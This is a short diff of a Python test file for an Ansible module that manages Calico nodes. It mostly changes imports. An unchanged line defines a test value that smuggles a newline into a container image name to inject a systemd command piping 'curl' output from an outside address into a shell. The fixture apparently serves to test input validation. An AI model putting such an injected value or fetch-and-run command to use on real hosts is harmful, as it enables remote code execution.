@@ -8,8 +8,8 @@ import json
 import pytest
 
 from ansible_collections.netops.calico.plugins.module_utils._node import options as node_options
-from test_node import params
-from test_node_host import host, run  # noqa: F401  # pylint: disable=unused-import
+from fakes import params
+from test_calico_node_execute import host, run  # noqa: F401  # pylint: disable=unused-import
 from fakes import MemoryDatastore
 
 IMAGE_INJECTION = "quay.io/calico/node:v3.31.7\nExecStartPost=/bin/sh -c 'curl 198.18.0.66 | sh'"
